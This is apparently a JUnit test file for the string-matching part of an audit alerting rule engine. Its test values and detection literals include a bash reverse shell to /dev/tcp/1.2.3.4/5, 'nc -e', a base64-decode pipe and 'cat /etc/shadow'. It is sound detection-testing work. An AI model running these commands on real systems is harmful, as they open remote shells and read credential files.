package io.auditalert.rules;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

/** contains / icontains with several literals, scanned in one pass over the value. */
class ValueTestContainsTest {
    private static boolean contains(boolean ignoreCase, String value, String... literals) {
        byte[][] lits = new byte[literals.length][];
        for (int i = 0; i < literals.length; i++) {
            lits[i] = literals[i].getBytes(StandardCharsets.UTF_8);
        }
        ValueTest t = new ValueTest.Strings(ValueTest.StringOp.CONTAINS, lits, ignoreCase);
        EvalScratch s = new EvalScratch();
        // the value sits inside a larger buffer, as values of a record do
        byte[] buf = ("xx" + value + "yy").getBytes(StandardCharsets.UTF_8);
        s.value(buf, 2, buf.length - 4);
        return t.test(s);
    }

    @Test
    void shouldFindAnyLiteralAnywhereButNotPastTheValue() {
        assertThat(contains(false, "echo aGk= | base64 -d", "nc -e", "base64 -d")).isTrue();
        assertThat(contains(false, "base64 -d", "base64 -d")).isTrue();
        assertThat(contains(false, "cat /etc/shadow", "shadow", "passwd")).isTrue();
        assertThat(contains(false, "cat /etc/shado", "shadow")).isFalse();
        // "yy" follows the value in the buffer: a match may not run into it
        assertThat(contains(false, "ab", "by", "aby")).isFalse();
        assertThat(contains(false, "short", "much longer literal")).isFalse();
        assertThat(contains(false, "", "a")).isFalse();
        assertThat(contains(false, "anything", "")).isTrue();
    }

    @Test
    void shouldFoldAsciiCaseOnlyWhenAsked() {
        assertThat(contains(true, "BASH -I >& /dev/tcp/1.2.3.4/5", "bash -i")).isTrue();
        assertThat(contains(false, "BASH -I", "bash -i")).isFalse();
        assertThat(contains(true, "Base64 --Decode", "nc -e", "base64 --decode")).isTrue();
        assertThat(contains(true, "ÜBER", "über")).as("no folding beyond ASCII").isFalse();
    }
}
